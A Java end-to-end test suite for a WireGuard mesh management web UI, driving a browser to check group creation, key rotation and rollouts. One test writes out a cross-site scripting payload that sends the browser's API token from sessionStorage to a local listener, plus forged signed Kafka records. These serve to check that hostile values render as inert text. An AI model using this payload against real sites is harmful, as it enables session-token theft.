package dev.wgmesh.e2e.ui;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.wgmesh.common.events.CloudEvents;
import dev.wgmesh.common.events.EventJson;
import dev.wgmesh.common.events.HostHealthReported;
import dev.wgmesh.common.events.HostHealthReported.Drift;
import dev.wgmesh.common.events.HostHealthReported.Link;
import dev.wgmesh.common.events.HostHealthReported.LinkState;
import dev.wgmesh.common.events.Topics;
import dev.wgmesh.common.group.GroupName;
import dev.wgmesh.common.group.HostName;
import dev.wgmesh.common.testing.TestTrust;
import dev.wgmesh.common.trust.Signer;
import dev.wgmesh.e2e.Api;
import dev.wgmesh.e2e.KafkaBroker;
import dev.wgmesh.e2e.Wgmesh;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * The page in a real browser against the running system (real broker, the four services, file target):
 * {@code ui-tests/ui-flow.mjs} drives Debian's chromium through playwright-core. It creates a group
 * through the form (while the page's first group list is held back, whose late arrival must not reset
 * the form), sees it converge, presses "Rotate WG keys for this host", follows the whole chain in the
 * live feed, follows a group's rollout in waves in its panel, and keeps screenshots in {@code target/ui/}. {@code ui-tests/ui-attack.mjs} puts hostile
 * values in front of the same page and shows they stay text. The browser holds the API token, as an
 * operator's does. Skips without chromium, node or {@code ui-tests/node_modules}; fails instead when
 * WGMESH_REQUIRE_ROOT_TESTS=1 (CI).
 */
class UiEndToEndTest {

    private static final Path CHROMIUM = Path.of(System.getenv().getOrDefault("CHROMIUM", "/usr/bin/chromium"));
    private static final Path UI_TESTS = Path.of("..", "ui-tests").toAbsolutePath().normalize();
    private static final Path SCREENSHOTS = Path.of("target", "ui").toAbsolutePath();
    private static final Duration BROWSER_TIMEOUT = Duration.ofMinutes(6);
    private static final String ATTACKED = "ui-attack";
    private static final String ATTACKED_GROUP = """
            {"topology": "hoster", "hosts": [
              {"name": "hoster-node-01", "endpoint": "192.0.2.11:51821", "internalNetworks": ["10.10.101.0/24"],
               "tunnelSegment": "198.19.1.10/24", "interfaceSuffix": "node-01"},
              {"name": "hoster-node-02", "endpoint": "192.0.2.12:51821", "internalNetworks": ["10.10.102.0/24"],
               "tunnelSegment": "198.19.2.10/24", "interfaceSuffix": "node-02"}]}""";

    @TempDir
    Path workDir;

    @Test
    void operatorCreatesAGroupSeesItConvergeRotatesAHostAndFollowsTheChain() throws Exception {
        assumeBrowserAvailable();
        try (KafkaBroker broker = KafkaBroker.start();
             Wgmesh wgmesh = new Wgmesh(broker.bootstrapServers(), workDir, 2)) {
            List<String> output = runBrowser("ui-flow.mjs", wgmesh.api(), List.of(), line -> {
                if (line.equals("HEALTH")) {
                    observe(broker.bootstrapServers());
                }
            });
            String all = String.join("\n", output);

            assertThat(all).as("the browser run's output").contains("UI-FLOW PASSED")
                    .contains("OK the form kept what was typed when the first group list arrived late")
                    .contains("OK validation error next to hosts[2].endpoint")
                    .contains("OK converged in the page")
                    .contains("OK the rotation's actor is shown: by api@")
                    .contains("OK health in the page: tunnels")
                    .contains("preshared keys rotated from the page at revision 3")
                    .contains("hoster-node-04 (key age")
                    .contains("OK the edit's plan, before anything changed: ")
                    .contains("OK the edit applied from its plan at revision 2, forced past the 30% limit")
                    .contains("OK the rollout in waves of ui-demo-waves went RUNNING to DONE in the page at revision 2")
                    .contains("OK feed shows the chain HostGroupChanged -> HostGroupKeysGenerated -> HostConfigRendered -> DeploymentReported");
            Matcher correlation = Pattern.compile("CORRELATION ([0-9a-f-]{36})").matcher(all);
            assertThat(correlation.find()).as("the followed change's correlationId in %s", all).isTrue();

            // what the page pressed really happened: a host's keys (2), the preshared keys (3), a revoke (4), converged
            JsonNode group = wgmesh.api().get("/api/v1/groups/ui-demo").body();
            assertThat(group.path("revision").asLong()).isEqualTo(4);
            assertThat(group.path("revoked").toString()).isEqualTo("[\"hoster-node-04\"]");
            wgmesh.api().awaitConverged("ui-demo", 4, Duration.ofSeconds(60));
            assertThat(wgmesh.api().get("/api/v1/groups/ui-demo-paste").status()).isEqualTo(200);
            // the changed endpoint reached every host wave by wave, its host first
            JsonNode rollout = wgmesh.api().get("/api/v1/groups/ui-demo-waves/status").body().path("rollout");
            assertThat(rollout.path("state").asString()).isEqualTo("DONE");
            assertThat(rollout.path("waveHosts").toString())
                    .isEqualTo("[[\"wave-node-02\"],[\"wave-node-01\"],[\"wave-node-03\"]]");

            assertThat(SCREENSHOTS.resolve("mesh.png")).isNotEmptyFile();
            assertThat(SCREENSHOTS.resolve("page.png")).isNotEmptyFile();
        }
    }

    /**
     * Values an attacker controls, each on a path that reaches the page today: a host's apply tool
     * prints markup on stderr (the FAILED reason in the host table and detail), a Kafka writer puts a
     * forged change and report with markup in the replica, the revision and the reason on the topics
     * (the live feed, the followed chain, the rollout banner, the dead letters' reasons), and an
     * operator pastes a group whose host name is markup (the API's problems in the editor). The payload
     * would set a global and send the browser's API token to a listener here; nothing may arrive, and
     * the page must hold no element or handler the payload made.
     */
    @Test
    void hostileValuesFromHostsRecordsAndPastedGroupsStayTextAndRunNothing() throws Exception {
        assumeBrowserAvailable();
        List<String> stolen = new CopyOnWriteArrayList<>();
        HttpServer listener = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        listener.createContext("/", exchange -> {
            stolen.add(exchange.getRequestURI().toString());
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        listener.start();
        String steal = "http://127.0.0.1:" + listener.getAddress().getPort() + "/stolen?t=";
        String payload = "\"'><img src=x onerror=\"window.__pwned=1;new Image().src='" + steal
                + "'+sessionStorage.getItem('wgmesh-api-token')\"><svg onload=\"window.__pwned=2\"></svg>";
        Path apply = workDir.resolve("hostile-apply.sh");
        Files.writeString(apply, "#!/bin/sh\ncat >&2 <<'EOF'\nwg setconf failed on " + payload + "\nEOF\nexit 1\n");
        Files.setPosixFilePermissions(apply, PosixFilePermissions.fromString("rwx------"));
        String forged = UUID.randomUUID().toString();
        try (KafkaBroker broker = KafkaBroker.start();
             Wgmesh wgmesh = new Wgmesh(broker.bootstrapServers(), workDir, 1, Map.of("wgmesh.target", "command",
                     "wgmesh.command", apply.toString(), "wgmesh.command-timeout", "30s"))) {
            assertThat(wgmesh.api().put(ATTACKED, ATTACKED_GROUP).status()).isEqualTo(201);
            List<String> output = runBrowser("ui-attack.mjs", wgmesh.api(), List.of(ATTACKED, forged, payload), line -> {
                if (line.equals("FORGE")) {
                    forge(broker.bootstrapServers(), forged, payload);
                }
            });
            String all = String.join("\n", output);

            assertThat(all).as("the browser run's output").contains("UI-ATTACK PASSED")
                    .contains("OK the page carries Content-Security-Policy: default-src 'self'")
                    .contains("OK the FAILED reason from the host's tool shows as text in the host table")
                    .contains("OK the forged replica and revision show as text in the chain and the rollout banner")
                    .contains("OK the forged observation's differences show as text in the host table")
                    .contains("OK the FAILED reason shows as text in the host detail")
                    .contains("OK the API's problems about a pasted host name show as text in the editor")
                    .contains("OK no injected element, no handler ran, no CSP violation");
            assertThat(stolen).as("requests the payload made to the attacker's listener").isEmpty();
        } finally {
            listener.stop(0);
        }
    }

    /**
     * What the deployers would observe of ui-demo's hoster mesh, signed as they sign: 01 sees every tunnel up,
     * 02 sees 03 stale and 04 down, 03 drifted and never shook hands with 02, 04 was not observed. Their
     * revision is ahead of any the deployers report, so the deployers' own observations of these hosts (the file
     * target sees no tunnel) do not replace them while the page is looked at.
     */
    private static void observe(String bootstrapServers) {
        GroupName group = GroupName.parse("ui-demo");
        List<HostHealthReported> reports = List.of(
                health(group, "hoster-node-01", Drift.IN_SYNC, List.of(), link("hoster-node-02", LinkState.UP),
                        link("hoster-node-03", LinkState.UP), link("hoster-node-04", LinkState.UP)),
                health(group, "hoster-node-02", Drift.IN_SYNC, List.of(), link("hoster-node-01", LinkState.UP),
                        link("hoster-node-03", LinkState.STALE), link("hoster-node-04", LinkState.DOWN)),
                health(group, "hoster-node-03", Drift.DRIFTED, List.of("wg-node-03: ListenPort is 51999, declared 51821"),
                        link("hoster-node-01", LinkState.UP), link("hoster-node-02", LinkState.NEVER),
                        link("hoster-node-04", LinkState.UP)));
        try (var producer = new KafkaProducer<>(Map.<String, Object>of("bootstrap.servers", bootstrapServers),
                new StringSerializer(), new ByteArraySerializer())) {
            for (HostHealthReported report : reports) {
                producer.send(CloudEvents.record(Topics.HOST_HEALTH_REPORTED, report, TestTrust.signer(Signer.DEPLOYER))).get();
            }
        } catch (Exception e) {
            throw new AssertionError("could not write the observations", e);
        }
    }

    private static HostHealthReported health(GroupName group, String host, Drift drift, List<String> differences,
                                             Link... links) {
        return new HostHealthReported(UUID.randomUUID(), group, 1000, Instant.now(), UUID.randomUUID(),
                HostName.parse(host), "ui-test", Instant.now(), drift, differences, List.of(links));
    }

    private static Link link(String peer, LinkState state) {
        return new Link(HostName.parse(peer), state, state == LinkState.NEVER ? null : Instant.now().minusSeconds(30),
                4096, 8192, null);
    }

    /**
     * As a Kafka writer holding config-service's and a deployer's signing keys would (a compromised service:
     * unsigned records never reach the feed): a change and a report of the attacked group with markup where
     * the page shows the replica, the revision, the rotated host and the reason, under one correlationId of
     * their own. The services refuse both as events (their dead letters quote them); the feed shows them.
     * And a deployer's observation of the attacked host with markup in what differs (a valid event, shown in
     * the host table), and one with markup as a peer's name (refused as an event, shown in the feed).
     */
    private static void forge(String bootstrapServers, String correlation, String payload) {
        ObjectNode changed = EventJson.mapper().createObjectNode().put("eventId", UUID.randomUUID().toString())
                .put("group", ATTACKED).put("revision", payload).put("occurredAt", Instant.now().toString())
                .put("correlationId", correlation).put("cause", "rotate-host").put("rotatedHost", payload);
        ObjectNode reported = EventJson.mapper().createObjectNode().put("eventId", UUID.randomUUID().toString())
                .put("group", ATTACKED).put("revision", payload).put("occurredAt", Instant.now().toString())
                .put("correlationId", correlation).put("host", "hoster-node-02").put("outcome", "FAILED")
                .put("reason", payload).put("replica", payload).put("durationMillis", 1);
        try (var producer = new KafkaProducer<>(Map.<String, Object>of("bootstrap.servers", bootstrapServers),
                new StringSerializer(), new ByteArraySerializer())) {
            producer.send(TestTrust.signed(Signer.CONFIG, Topics.HOST_GROUP_CHANGED, "forged",
                    changed.toString().getBytes(StandardCharsets.UTF_8), 1)).get();
            producer.send(TestTrust.signed(Signer.DEPLOYER, Topics.DEPLOYMENT_REPORTED, ATTACKED + "/hoster-node-02",
                    reported.toString().getBytes(StandardCharsets.UTF_8), 1)).get();
            producer.send(CloudEvents.record(Topics.HOST_HEALTH_REPORTED, health(GroupName.parse(ATTACKED),
                    "hoster-node-02", Drift.DRIFTED, List.of(payload), link("hoster-node-01", LinkState.DOWN)),
                    TestTrust.signer(Signer.DEPLOYER))).get();
            ObjectNode observed = EventJson.mapper().createObjectNode().put("eventId", UUID.randomUUID().toString())
                    .put("group", ATTACKED).put("revision", 1000).put("occurredAt", Instant.now().toString())
                    .put("correlationId", correlation).put("host", "hoster-node-01").put("replica", "r")
                    .put("observedAt", Instant.now().toString()).put("drift", "IN_SYNC");
            observed.putArray("links").addObject().put("peer", payload).put("state", "UP").put("rxBytes", 1)
                    .put("txBytes", 1);
            producer.send(TestTrust.signed(Signer.DEPLOYER, Topics.HOST_HEALTH_REPORTED, ATTACKED + "/hoster-node-01",
                    observed.toString().getBytes(StandardCharsets.UTF_8), 1000)).get();
        } catch (Exception e) {
            throw new AssertionError("could not write the forged records", e);
        }
    }

    /**
     * Runs {@code ui-tests/<script> <base> <screenshots> <args...>} with the API token in its environment
     * (never on its command line); {@code onLine} sees each line of its output as it comes.
     */
    private static List<String> runBrowser(String script, Api api, List<String> args, Consumer<String> onLine)
            throws IOException, InterruptedException {
        Files.createDirectories(SCREENSHOTS);
        List<String> command = new ArrayList<>(List.of("node", UI_TESTS.resolve(script).toString(), api.base(),
                SCREENSHOTS.toString()));
        command.addAll(args);
        ProcessBuilder builder = new ProcessBuilder(command).directory(UI_TESTS.toFile()).redirectErrorStream(true);
        builder.environment().put("WGMESH_API_TOKEN", api.token());
        Process process = builder.start();
        List<String> lines = new ArrayList<>();
        Thread reader = new Thread(() -> {
            try (var in = process.inputReader(StandardCharsets.UTF_8)) {
                String line;
                while ((line = in.readLine()) != null) {
                    System.out.println("[ui] " + line);
                    synchronized (lines) {
                        lines.add(line);
                    }
                    onLine.accept(line);
                }
            } catch (IOException e) {
                // the process ended
            }
        });
        reader.start();
        if (!process.waitFor(BROWSER_TIMEOUT.toSeconds(), TimeUnit.SECONDS)) {
            process.descendants().forEach(ProcessHandle::destroyForcibly);
            process.destroyForcibly();
            Assertions.fail("the browser run took longer than " + BROWSER_TIMEOUT);
        }
        reader.join(10_000);
        synchronized (lines) {
            assertThat(process.exitValue()).as("ui-flow.mjs exit code; output:%n%s", String.join("\n", lines)).isZero();
            return List.copyOf(lines);
        }
    }

    /** Skips with the reason when the browser cannot run here; fails instead where CI requires it. */
    private static void assumeBrowserAvailable() {
        List<String> missing = new ArrayList<>();
        if (!Files.isExecutable(CHROMIUM)) {
            missing.add(CHROMIUM + " (apt-get install -y --no-install-recommends chromium)");
        }
        if (!onPath("node")) {
            missing.add("node");
        }
        if (!Files.isDirectory(UI_TESTS.resolve("node_modules").resolve("playwright-core"))) {
            missing.add(UI_TESTS.resolve("node_modules") + " (npm ci --prefix ui-tests)");
        }
        if (missing.isEmpty()) {
            return;
        }
        String message = "the browser test needs " + String.join(", ", missing);
        if ("1".equals(System.getenv("WGMESH_REQUIRE_ROOT_TESTS"))) {
            Assertions.fail(message + " (and WGMESH_REQUIRE_ROOT_TESTS=1 requires it)");
        }
        Assumptions.abort(message);
    }

    private static boolean onPath(String tool) {
        for (String dir : System.getenv().getOrDefault("PATH", "").split(":")) {
            if (!dir.isEmpty() && Files.isExecutable(Path.of(dir, tool))) {
                return true;
            }
        }
        return false;
    }
}
